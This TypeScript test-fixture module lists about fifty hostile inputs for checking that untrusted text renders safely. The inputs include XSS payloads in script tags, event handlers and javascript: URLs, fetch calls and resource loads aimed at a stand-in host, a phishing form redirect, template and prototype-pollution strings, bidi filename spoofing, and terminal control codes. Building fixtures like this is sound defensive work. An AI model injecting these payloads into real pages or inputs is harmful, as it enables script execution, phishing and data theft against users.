/** Where every one of them would go, if it ran or were followed. */
export const ELSEWHERE = 'texts.hostile.example';

const FETCH = `fetch('https://${ELSEWHERE}/')`;
const RUN = `alert(1);${FETCH}`;
const URL = `https://${ELSEWHERE}/x`;

/** What somebody who means harm writes where people read; each would do something if it were more than text. */
export const HOSTILE: readonly string[] = [
  `<script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style></noscript></template><script>${RUN}</script>`,
  `<script src=//${ELSEWHERE}/x.js></script>`,
  `<script type=module>import 'https://${ELSEWHERE}/x.js'</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'"><img src=x onerror="${RUN}">`,
  `<img src=${URL} onload=alert(1)>`,
  `<img srcset="${URL} 2x">`,
  `<body onload=alert(1)>`,
  `<div onpointerover="alert(1)" onfocus="alert(1)" tabindex=1 autofocus>over</div>`,
  `" onmouseover="alert(1)" x="`,
  `' autofocus onfocus='alert(1)' x='`,
  `<details open ontoggle=alert(1)>`,
  `<video src=${URL} onloadstart=alert(1) autoplay></video>`,
  `<input autofocus onfocus=alert(1)>`,
  `<marquee onstart=alert(1)>moves</marquee>`,
  `javascript:alert(1)`,
  `JaVaScRiPt://%0aalert(1)`,
  `<a href="javascript:alert(1)">click</a>`,
  `data:text/html,<script>${RUN}</script>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
  `<svg onload=alert(1)>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><use href="${URL}.svg#x"/></svg>`,
  `<math><mtext></p><img src=x onerror=alert(1)></mtext></math>`,
  `<iframe src=https://${ELSEWHERE}/></iframe>`,
  `<iframe srcdoc="<script>parent.${FETCH}</script>"></iframe>`,
  `<object data=${URL}></object><embed src=${URL}>`,
  `<meta http-equiv=refresh content="0;url=https://${ELSEWHERE}/">`,
  `<base href=https://${ELSEWHERE}/>`,
  `<link rel=stylesheet href=${URL}.css>`,
  `<style>@import url(${URL}.css); * { background: url(${URL}.png) }</style>`,
  `<p style="position:fixed;inset:0;background:url(${URL}.png)">over everything</p>`,
  `background:url(${URL}.png);width:expression(alert(1))`,
  `<form action=https://${ELSEWHERE}/><button formaction=https://${ELSEWHERE}/>Sign in</button></form>`,
  `{{constructor.constructor('${FETCH}')()}}`,
  `\${${FETCH}} #{7*7} <%= 7*7 %> {% raw %} {{7*7}}`,
  `__proto__ constructor prototype [object Object] undefined null NaN`,
  `invoice\u202Efdp.exe \u2066isolated\u2069 \u200Emarks\u200F`,
  `zero\u200Bwidth \u2060joined \u00ADhyphen \uFEFFmark`,
  `Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034Da\u0348\u0301l\u0340g\u0341o`,
  `\u{1F469}\u200D\u{1F4BB} \u0645\u0631\u062D\u0628\u0627 \u6771\u4EAC \u{1D573}\u{1D58A}`,
  'W'.repeat(400),
  `${'wide '.repeat(60)}${'<b>'.repeat(40)}`,
];

/** Not on one line, and for bodies and foreign mails only: what is ours refuses them. */
export const CONTROLS =
  'bell\u0007 escape\u001B[2J back\u0008space delete\u007F next\u0085line form\u000Cfeed';

/** Each can be told from the others wherever it is shown, also where only its beginning is. */
export const numbered = (texts: readonly string[] = HOSTILE): string[] =>
  texts.map((text, n) => `p${String(n).padStart(2, '0')} ${text}`);
